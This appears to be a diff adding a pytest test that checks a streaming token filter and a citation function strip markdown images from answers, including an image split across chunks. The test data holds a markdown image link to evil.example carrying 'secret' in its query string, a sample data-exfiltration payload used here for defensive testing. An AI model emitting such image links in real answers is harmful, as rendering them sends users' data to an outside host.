@@ -248,3 +248,14 @@ def test_a_bracket_that_cannot_become_a_citation_is_shown_at_once() -> None:
 @pytest.mark.timeout(20)
 def test_long_runs_are_no_trap(text: str) -> None:
     cite(text, PASSAGES)
+
+
+def test_an_answer_shows_no_image_whole_or_in_pieces():
+    whole = "Here ![x](http://evil.example/?q=secret) it is, great![1]"
+    pieces = ["Here !", "[x](http", "://evil.example/?q=secret) it is, great", "!", "[", "1]"]
+    filter_ = TokenFilter(1)
+    shown = "".join(filter_.feed(piece) for piece in pieces) + filter_.close()
+    passage = Passage(doc_id="d", chunk_id="d#0", text="It is great.")
+    assert "![" not in shown
+    assert "![" not in cite(whole, (passage,)).text
+    assert shown.endswith("[1]")
